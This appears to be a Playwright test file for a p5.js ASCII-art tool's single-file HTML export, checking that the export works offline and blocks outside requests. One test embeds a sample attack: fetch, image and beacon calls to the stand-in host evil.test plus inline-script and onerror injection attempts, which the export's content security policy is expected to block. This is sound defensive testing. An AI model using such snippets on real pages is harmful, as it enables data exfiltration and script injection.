import { pathToFileURL } from 'node:url';
import { expect, test } from './support/reading';
import { openExample, openShared, phone, sketchWith } from './support/live';
import { inMotion } from './support/page';

test.use({ viewport: phone, ...inMotion });

test.describe('controls', () => {
  test('as one HTML file that works from disk', async ({ page, context }) => {
    await page.emulateMedia({ reducedMotion: 'reduce' });
    const example = await openExample(page);
    const saving = page.waitForEvent('download');
    await example.choose('Download as one HTML file');
    const path = test.info().outputPath('sketch.html');
    await (await saving).saveAs(path);
    const requests: string[] = [];
    const fromDisk = await context.newPage();
    fromDisk.on('request', (request) => requests.push(request.url()));
    await fromDisk.goto(pathToFileURL(path).href);
    await expect
      .poll(() => fromDisk.evaluate(() => Number(Reflect.get(window, 'frameCount'))))
      .toBeGreaterThan(2);
    expect(
      String(await fromDisk.evaluate(() => String(Reflect.get(window, 'p5asciifier')))),
    ).toBeTruthy();
    expect(requests.filter((url) => !/^(file|data|blob):/.test(url))).toEqual([]);
  });

  test('as one HTML file with the shape renderer, if the sketch uses it', async ({
    page,
    context,
  }) => {
    const downloads = { 'text-menu': 'undefined', dandelion: 'object' };
    for (const [slug, type] of Object.entries(downloads)) {
      const example = await openExample(page, `/examples/${slug}`, slug);
      const saving = page.waitForEvent('download');
      await example.choose('Download as one HTML file');
      const path = test.info().outputPath(`${slug}.html`);
      await (await saving).saveAs(path);
      const fromDisk = await context.newPage();
      await fromDisk.goto(pathToFileURL(path).href);
      await expect
        .poll(() => fromDisk.evaluate(() => Number(Reflect.get(window, 'frameCount'))))
        .toBeGreaterThan(0);
      expect(await fromDisk.evaluate(() => typeof Reflect.get(window, 'P5AsciifyShape'))).toBe(
        type,
      );
      await fromDisk.close();
    }
  });

  for (const major of ['1', '2'] as const) {
    test(`as one HTML file with p5.js ${major}.x that runs, and reaches nobody`, async ({
      page,
      context,
    }) => {
      await page.emulateMedia({ reducedMotion: 'reduce' });
      const attack = `
const told = [];
addEventListener('securitypolicyviolation', (event) => told.push(event.effectiveDirective));
const ask = async () => {
  await fetch('https://evil.test/fetch').catch(() => told.push('refused'));
  new Image().src = 'https://evil.test/image';
  navigator.sendBeacon('https://evil.test/beacon', 'text');
  const script = document.createElement('script');
  script.textContent = 'window.slippedIn = true';
  document.body.append(script);
  document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.slippedIn = true">');
  setTimeout('window.slippedIn = true');
};
ask();`;
      const shared = await openShared(page, sketchWith(attack), major);
      const saving = page.waitForEvent('download');
      await shared.choose('Download as one HTML file');
      const path = test.info().outputPath('attack.html');
      await (await saving).saveAs(path);

      const requests: string[] = [];
      const fromDisk = await context.newPage();
      const errors: string[] = [];
      fromDisk.on('pageerror', (error) => errors.push(error.message));
      await context.route('https://evil.test/**', (route) => {
        requests.push(route.request().url());
        return route.abort();
      });
      await fromDisk.goto(pathToFileURL(path).href);
      const told = () => fromDisk.evaluate('told.join()');
      for (const directive of [
        ...['refused', 'img-src', 'connect-src', 'script-src-elem', 'script-src-attr'],
        'script-src',
      ]) {
        await expect.poll(told).toMatch(new RegExp(`(^|,)${directive}(,|$)`));
      }
      await expect
        .poll(() => fromDisk.evaluate(() => Number(Reflect.get(window, 'frameCount'))))
        .toBeGreaterThan(2);
      expect(await fromDisk.evaluate(() => 'slippedIn' in window)).toBe(false);
      expect(requests).toEqual([]);
      expect(errors).toEqual([]);
    });
  }
});
